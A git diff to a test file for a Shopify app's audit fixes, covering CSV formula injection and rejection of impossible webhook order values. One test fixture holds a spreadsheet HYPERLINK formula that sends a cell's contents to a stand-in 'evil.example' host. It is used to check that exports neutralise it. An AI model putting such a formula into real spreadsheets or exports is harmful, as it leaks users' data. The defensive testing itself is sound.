@@ -5,6 +5,7 @@ import prisma from "../../app/db.server";
 import { auditCsvResponse } from "../../app/services/audit-csv.server";
 import { recordAuditEvents } from "../../app/services/audit.server";
 import { ensureShop } from "../../app/services/shops.server";
+import type { OrderSpec } from "../../app/demo/order-payload-builder";
 import { orderPayload, stackedCodeAndAutomatic } from "../fixtures/orders";
 import { adminRequest, routeArgs, settle, storeOfflineSession, webhookRequest } from "../helpers/shopify";
 import { TEST_APP_URL } from "../helpers/test-env";
@@ -111,7 +112,7 @@ describe("finding 4: CSV formula injection", () => {
         discountCodes: ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'],
       })),
     );
-    const csv = await auditCsvResponse(shopId, {}, "audit.csv").text();
+    const csv = await auditCsvResponse(shopId, { q: undefined }, "audit.csv").text();
     for (const name of names) {
       expect(csv).toContain(`'${name}`);
       expect(csv).not.toMatch(new RegExp(`(^|,)"?${name.replace(/[+@=]/g, "\\$&")}`, "m"));
@@ -212,12 +213,12 @@ describe("finding 9: bad input is a 400 with a message, never a 500", () => {
 
 describe("findings 9 and 11: signed webhooks with impossible payloads store nothing", () => {
   const line = { variant: 1, product: 1, price: { shop: "10.00" }, allocations: [{ index: 0, amount: { shop: "1.00" } }] };
-  const applications = [{ type: "discount_code", target: "line_item", valueType: "fixed_amount", value: "1.0", code: "A" }] as const;
+  const applications: OrderSpec["applications"] = [{ type: "discount_code", target: "line_item", valueType: "fixed_amount", value: "1.0", code: "A" }];
   const impossible: [string, unknown][] = [
-    ["a price of 1e307", orderPayload({ id: 1, applications: [...applications], lines: [{ ...line, price: { shop: "1e307" } }] })],
-    ["an allocation of 1e20", orderPayload({ id: 2, applications: [...applications], lines: [{ ...line, allocations: [{ index: 0, amount: { shop: "1e20" } }] }] })],
-    ["a negative price", orderPayload({ id: 3, applications: [...applications], lines: [{ ...line, price: { shop: "-10.00" } }] })],
-    ["an allocation index of 1e9", orderPayload({ id: 4, applications: [...applications], lines: [{ ...line, allocations: [{ index: 1e9, amount: { shop: "1.00" } }] }] })],
+    ["a price of 1e307", orderPayload({ id: 1, number: 1, applications, lines: [{ ...line, price: { shop: "1e307" } }] })],
+    ["an allocation of 1e20", orderPayload({ id: 2, number: 2, applications, lines: [{ ...line, allocations: [{ index: 0, amount: { shop: "1e20" } }] }] })],
+    ["a negative price", orderPayload({ id: 3, number: 3, applications, lines: [{ ...line, price: { shop: "-10.00" } }] })],
+    ["an allocation index of 1e9", orderPayload({ id: 4, number: 4, applications, lines: [{ ...line, allocations: [{ index: 1e9, amount: { shop: "1.00" } }] }] })],
     ["200,000 discount codes", { ...stackedCodeAndAutomatic, discount_codes: Array.from({ length: 200_000 }, (_, index) => ({ code: `C${index}`, amount: "1.00", type: "fixed_amount" })) }],
   ];
 
